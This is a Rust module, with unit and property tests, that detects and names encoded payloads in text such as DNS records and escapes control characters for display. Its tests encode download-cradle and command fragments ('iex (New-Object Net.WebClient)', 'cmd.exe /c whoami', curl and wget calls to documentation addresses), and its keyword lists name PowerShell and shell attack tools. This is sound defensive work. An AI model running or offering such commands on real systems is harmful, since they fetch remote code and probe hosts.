//! What is encoded in a text: the longest run of an encoding's alphabet, decoded and named by its content.
//!
//! It serves explanations alone; no score depends on it. What comes out is for eyes: cut, and with everything that would
//! move a cursor or turn a line escaped. Work is bounded: the first 64 KiB of a text, and what is encoded in what is encoded
//! at most three deep.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use data_encoding::{BASE32_NOPAD, HEXLOWER_PERMISSIVE};

/// Bytes of a text that are looked at.
const MOST: usize = 64 << 10;
/// Encodings inside one another that are followed.
const DEPTH: usize = 3;
/// Runs of a text that are decoded.
const MOST_RUNS: usize = 8;
/// Characters of a decoded payload that are shown.
pub const SHOWN: usize = 200;

/// How a payload was written into a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    Base64,
    Base64Url,
    Base32,
    Hex,
    /// The text itself is bytes that are no characters: a log or a zone showed them escaped.
    EscapedBytes,
}

impl Encoding {
    pub fn name(self) -> &'static str {
        match self {
            Self::Base64 => "base64",
            Self::Base64Url => "base64url",
            Self::Base32 => "base32",
            Self::Hex => "hex",
            Self::EscapedBytes => "escaped bytes",
        }
    }
}

/// An encoded payload.
#[derive(Debug, PartialEq, Eq)]
pub struct Payload {
    pub encoding: Encoding,
    /// Characters of the text that it takes.
    pub characters: usize,
    /// What it is, where its bytes tell: `gzip`, `PowerShell`, `base64 of ELF`.
    pub content: Option<String>,
    /// At most [`SHOWN`] characters of it.
    pub shown: String,
}

/// The payload of a normalised text, if it holds one.
pub fn find(text: &[u8]) -> Option<Payload> {
    inside(text.get(..MOST).unwrap_or(text), DEPTH)
}

fn inside(text: &[u8], depth: usize) -> Option<Payload> {
    if is_binary(text) {
        return Some(payload(Encoding::EscapedBytes, text.len(), text, 1)); // bytes hold no further text
    }
    let mut runs: Vec<(Encoding, &[u8])> = runs(text).filter_map(|run| Some((encoding_of(run)?, run))).collect();
    runs.sort_by_key(|(_, run)| std::cmp::Reverse(run.len())); // of equals the first stays first
    runs.truncate(MOST_RUNS);
    let mut unnamed = None;
    for (encoding, run) in runs {
        for bytes in decodings(encoding, run) {
            let payload = payload(encoding, run.len(), &bytes, depth);
            if payload.content.is_some() {
                return Some(payload);
            }
            // A name in this alphabet decodes to something as well: without a sign of encoding it must be long.
            const LONG: usize = 40;
            let sure = encoding != Encoding::Base32 && run.iter().any(u8::is_ascii_digit) || run.len() >= LONG;
            unnamed = unnamed.or(Some(payload).filter(|_| sure));
        }
    }
    unnamed
}

/// Whether a text is bytes that people do not read: no UTF-8 and a quarter or more of it unusual, or half of it unusual with
/// control characters. Latin-1 prose is not.
fn is_binary(text: &[u8]) -> bool {
    let is_control = |byte: &&u8| byte.is_ascii_control() && !matches!(byte, b'\t' | b'\n' | b'\r');
    let odd = text.iter().filter(|byte| is_control(byte) || !byte.is_ascii()).count();
    std::str::from_utf8(text).is_err() && odd * 4 >= text.len() || odd * 2 >= text.len() && text.iter().any(|byte| is_control(&byte))
}

/// The longest parts of a text that are one encoding's, and the pieces of them that a sign of both alphabets divides: a prefix
/// with a hyphen or a slash is none of the payload's.
fn runs(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let whole = text.split(|byte| !(byte.is_ascii_alphanumeric() || b"+/-_".contains(byte)));
    let pieces = text.split(|byte| !byte.is_ascii_alphanumeric());
    whole.chain(pieces).map(|run| run.strip_prefix(b"0x").unwrap_or(run))
}

/// How a run is likely encoded.
fn encoding_of(run: &[u8]) -> Option<Encoding> {
    let count = |is: fn(&u8) -> bool| run.iter().filter(|byte| is(byte)).count();
    let (upper, lower, digits) = (count(u8::is_ascii_uppercase), count(u8::is_ascii_lowercase), count(u8::is_ascii_digit));
    // A number has no letters.
    if run.len() >= 16 && run.iter().all(u8::is_ascii_hexdigit) && digits > 0 && upper + lower > 0 {
        return Some(Encoding::Hex);
    }
    let in_base32 = |byte: &u8| byte.is_ascii_alphabetic() || (b'2'..=b'7').contains(byte);
    if run.len() >= 24 && digits > 0 && (upper == 0) != (lower == 0) && run.iter().all(in_base32) {
        return Some(Encoding::Base32);
    }
    // Words and names have few capitals, digits or neither.
    let capitals = if digits > 0 || run.len() >= 40 { 8 } else { 4 };
    let mixed = upper * capitals >= run.len() && lower * 8 >= run.len();
    if run.len() < 20 || !mixed {
        return None;
    }
    match (run.iter().any(|byte| b"-_".contains(byte)), run.iter().any(|byte| b"+/".contains(byte))) {
        (true, true) => None,
        (true, false) => Some(Encoding::Base64Url),
        (false, _) => Some(Encoding::Base64),
    }
}

/// What a run decodes to, from its beginning and, in base64, from the three places after it.
fn decodings(encoding: Encoding, run: &[u8]) -> impl Iterator<Item = Vec<u8>> {
    let lenient =
        GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let starts = if matches!(encoding, Encoding::Base64 | Encoding::Base64Url) { 0..4 } else { 0..1 };
    let run = run.to_vec();
    starts.filter_map(move |start| {
        let run = run.get(start..)?;
        let quads = if run.len() % 4 == 1 { run.get(..run.len() - 1)? } else { run };
        match encoding {
            Encoding::Base64 => GeneralPurpose::new(&alphabet::STANDARD, lenient).decode(quads).ok(),
            Encoding::Base64Url => GeneralPurpose::new(&alphabet::URL_SAFE, lenient).decode(quads).ok(),
            // Not every length is one; what is too much is left out.
            Encoding::Base32 => {
                let run = run.to_ascii_uppercase();
                (0..8).find_map(|cut| BASE32_NOPAD.decode(run.get(..run.len().checked_sub(cut)?)?).ok())
            }
            // A string of DNS has 255 bytes, and half a byte is none.
            Encoding::Hex => HEXLOWER_PERMISSIVE.decode(run.get(..run.len() / 2 * 2)?).ok(),
            Encoding::EscapedBytes => None,
        }
    })
}

fn payload(encoding: Encoding, characters: usize, bytes: &[u8], depth: usize) -> Payload {
    let text = as_text(bytes);
    if let (Some(text), true) = (&text, depth > 1)
        && let Some(inner) = inside(text.as_bytes(), depth - 1)
        && inner.content.is_some()
        && inner.characters * 10 >= text.len() * 8
    {
        let content = format!("{} of {}", inner.encoding.name(), inner.content.unwrap_or_default());
        return Payload { encoding, characters, content: Some(content), shown: inner.shown };
    }
    let content = match &text {
        Some(text) => Some(kind_of_text(text)),
        None => kind_of_bytes(bytes),
    };
    let shown = match text {
        Some(text) => shown(&text),
        None => format!("{} bytes", bytes.len()),
    };
    Payload { encoding, characters, content: content.map(str::to_owned), shown }
}

/// Bytes that people can read: UTF-8, or UTF-16 as PowerShell takes it.
fn as_text(bytes: &[u8]) -> Option<String> {
    // A string of DNS ends after 255 bytes, in the middle of a character if need be.
    let whole = match std::str::from_utf8(bytes) {
        Ok(text) => Some(text),
        Err(error) if error.error_len().is_none() => bytes.get(..error.valid_up_to()).and_then(|bytes| std::str::from_utf8(bytes).ok()),
        Err(_) => None,
    };
    let text = match whole {
        Some(text) if !bytes.contains(&0) => text.to_owned(),
        _ => {
            let (pairs, _) = bytes.as_chunks::<2>();
            let latin = pairs.iter().filter(|pair| pair[1] == 0).count();
            if pairs.len() < 4 || latin * 10 < pairs.len() * 8 {
                return None;
            }
            String::from_utf16(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>()).ok()?
        }
    };
    let (all, odd) = text.chars().fold((0, 0), |(all, odd), c| (all + 1, odd + usize::from(c.is_control() && !c.is_whitespace())));
    (all >= 4 && odd * 20 <= all).then_some(text)
}

/// Words that PowerShell has and prose has not, in lower case.
const POWERSHELL: [&str; 16] = [
    "powershell",
    "invoke-",
    "new-object",
    "frombase64string",
    "tobase64string",
    "downloadstring",
    "iex(",
    "iex (",
    "iex $",
    "$env:",
    "$global:",
    "-encodedcommand",
    "start-sleep",
    "out-string",
    "[system.",
    "foreach-object",
];

fn kind_of_text(text: &str) -> &'static str {
    let low = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| low.contains(word));
    if text.starts_with("SSH-") {
        "SSH banner"
    } else if text.starts_with("#!") {
        "script"
    } else if text.starts_with(['{', '[']) && serde_json::from_str::<serde_json::Value>(text).is_ok() {
        "JSON"
    } else if has(&POWERSHELL) {
        "PowerShell"
    } else if has(&["<script", "function(", "eval(", "wscript", "createobject(", "import os", "import socket", "require("]) {
        "script"
    } else if has(&[
        "cmd.exe", "cmd /c", "/bin/", "curl ", "wget ", "chmod ", "rundll32", "regsvr32", "certutil", "whoami", "/etc/", "ipconfig",
        "uname -",
    ]) {
        "command"
    } else {
        "text"
    }
}

/// Kinds of files by signatures of three bytes or more, and programs: a token has any two bytes by chance.
fn kind_of_bytes(bytes: &[u8]) -> Option<&'static str> {
    const KINDS: [&str; 13] = ["pdf", "png", "jpg", "gif", "7z", "rar", "xz", "zst", "cab", "wasm", "sqlite", "rtf", "msi"];
    let by_signature = || infer::get(bytes).map(|kind| kind.extension()).filter(|kind| KINDS.contains(kind));
    match bytes {
        [b'M', b'Z', ..] if bytes.len() >= 64 => Some("PE"),
        [0x7f, b'E', b'L', b'F', ..] => Some("ELF"),
        [0x1f, 0x8b, 8, ..] => Some("gzip"),
        [b'P', b'K', 3, 4, ..] => Some("zip"),
        [b'S', b'S', b'H', b'-', ..] => Some("SSH banner"),
        _ => by_signature(),
    }
}

/// Text for a terminal, a table or a page: one line of at most [`SHOWN`] characters, cut with an ellipsis; control characters
/// and those that turn the direction of a line are escaped.
pub fn shown(text: &str) -> String {
    let mut out = String::new();
    let mut count = 0;
    for c in text.chars() {
        // A line that turns and a tabulator are a space, several of them one: what is shown is one line.
        let piece = match c {
            _ if c.is_ascii_whitespace() && out.ends_with(' ') => continue,
            _ if c.is_ascii_whitespace() => " ".to_owned(),
            _ if is_hostile(c) => c.escape_unicode().to_string(),
            _ => c.to_string(),
        };
        let length = piece.chars().count();
        if count + length >= SHOWN {
            out.push('…');
            break;
        }
        count += length;
        out.push_str(&piece);
    }
    out
}

/// Whether a character acts on what shows it instead of being shown.
pub fn is_hostile(c: char) -> bool {
    let turns = matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{61c}' | '\u{feff}');
    let hides = matches!(c, '\u{ad}' | '\u{34f}' | '\u{180e}' | '\u{3164}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}');
    c.is_control() || turns || hides
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(text: &[u8]) -> (String, String, String) {
        let payload = find(text).unwrap_or_else(|| panic!("nothing in {}", text.escape_ascii()));
        (payload.encoding.name().to_owned(), payload.content.unwrap_or_default(), payload.shown)
    }

    fn base64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn payloads_are_named_by_their_content() {
        let utf16: Vec<u8> = "iex (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for (text, expected) in [
            (base64(&utf16), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (format!("v=spf1 include:{} ~all", base64(&utf16)), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (base64(b"SSH-2.0-OpenSSH_9.2p1 Debian"), ("base64", "SSH banner", "SSH-2.0-OpenSSH_9.2p1 Debian")),
            (base64(br#"{"cmd": "sleep", "seconds": 30}"#), ("base64", "JSON", r#"{"cmd": "sleep", "seconds": 30}"#)),
            (base64(b"#!/bin/sh\nid > /tmp/Out9"), ("base64", "script", "#!/bin/sh id > /tmp/Out9")),
            ("636d642e657865202f632077686f616d69".into(), ("hex", "command", "cmd.exe /c whoami")),
            (BASE32_NOPAD.encode(b"curl http://192.0.2.1/a"), ("base32", "command", "curl http://192.0.2.1/a")),
            (base64(base64(b"wget http://192.0.2.7/Xy8").as_bytes()), ("base64", "base64 of command", "wget http://192.0.2.7/Xy8")),
        ] {
            let (encoding, content, shown) = found(text.as_bytes());
            assert_eq!((&*encoding, &*content, &*shown), expected, "{text}");
        }
        let gzip = [&[0x1f, 0x8b, 8, 0][..], &[0x9c; 40]].concat();
        assert_eq!(found(base64(&gzip).as_bytes()).1, "gzip");
        let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 30]].concat();
        assert_eq!(found(&elf).0, "escaped bytes");
        assert_eq!(found(&elf).1, "ELF");
    }

    #[test]
    fn words_and_names_are_no_encoding() {
        for text in [
            "google-site-verification",
            "v=spf1 include:_spf.google-workspace.example.com -all",
            "this is a text of some words",
            "",
            "1234567890",
        ] {
            assert_eq!(find(text.as_bytes()), None, "{text}");
        }
    }

    /// Found in review, each: what a prefix, a decoy, a string's end or a tabulator hid, and what is no encoding.
    #[test]
    fn payloads_are_found_behind_prefixes_and_cuts_and_names_are_none() {
        let command = base64(b"cmd.exe /c whoami /all");
        for text in [
            format!("{} {command}", "a".repeat(70)),
            format!("facebook-domain-verification={}", base64(b"cmd.exe /c whoami")),
            format!("payload/{command}"),
            format!("a-b/{command}"),
            "0x636d642e657865202f632077686f616d69".into(),
            "636d642e657865202f632077686f616d692".into(),
            format!("{}\t{command}", "é".repeat(10)),
        ] {
            assert_eq!(found(text.as_bytes()).1, "command", "{text}");
        }
        let script: Vec<u8> = "iex (New-Object Net.WebClient)é".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(found(base64(&script[..script.len() - 1]).as_bytes()).1, "PowerShell");
        let cut = "Привет, это".as_bytes();
        assert_eq!(found(base64(&cut[..cut.len() - 1]).as_bytes()).1, "text");
        for text in
            ["ms 2024010112000000", "mailserverforexamplecom2thisislong", "MyVeryBigTextOfSomeWords", "Привет мир\tэто текст записи"]
        {
            assert_eq!(find(text.as_bytes()), None, "{text}");
        }
        assert_eq!(find(b"Soci\xe9t\xe9 g\xe9n\xe9rale: propri\xe9t\xe9 priv\xe9e"), None);
    }

    #[test]
    fn a_token_is_of_no_known_content() {
        let payload = find(b"google-site-verification=GJMuHbEL31IeL2HPcHyGcFRl1SPnXNYvMIHa-2o76um").unwrap();
        assert_eq!((payload.encoding, payload.content), (Encoding::Base64Url, None));
    }

    #[test]
    fn what_is_shown_is_cut_and_harmless() {
        let text = shown(&format!("\x1b[31m\u{202e}{}", "é".repeat(500)));
        assert!(text.starts_with(r"\u{1b}[31m\u{202e}é") && text.ends_with('…') && text.chars().count() <= SHOWN, "{text}");
        assert_eq!(shown("short"), "short");
    }

    proptest! {
        #[test]
        fn anything_is_looked_at_without_a_panic_and_shown_harmless(text: Vec<u8>) {
            if let Some(payload) = find(&text) {
                prop_assert!(payload.shown.chars().count() <= SHOWN && !payload.shown.chars().any(is_hostile));
            }
        }

        #[test]
        fn what_was_encoded_is_found(words in "[a-z]{3,9} [A-Z0-9]{6,12} [a-z]{5,20}") {
            let (encoding, content, text) = found(base64(words.as_bytes()).as_bytes());
            prop_assert_eq!((&*encoding, &*content, text), ("base64", "text", words));
        }
    }
}
